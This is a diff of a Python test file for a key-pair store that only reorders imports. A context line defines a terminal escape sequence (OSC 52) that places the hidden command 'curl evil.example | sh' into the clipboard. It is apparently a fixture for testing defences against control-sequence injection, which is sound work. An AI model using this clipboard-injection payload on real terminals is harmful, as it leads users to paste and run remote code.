@@ -6,10 +6,11 @@ from __future__ import annotations
 import base64
 import re
 
-from ecs_keypair.contract.records import KeyPairRecord
 from ecs_keypair.contract.api_requests import CreateKeyPairRequest
+from ecs_keypair.contract.records import KeyPairRecord
 from ecs_keypair.contract.rules import Tag
 from ecs_keypair.store.local_backend import LocalBackend
+
 from tests.support.engine import REGION
 
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
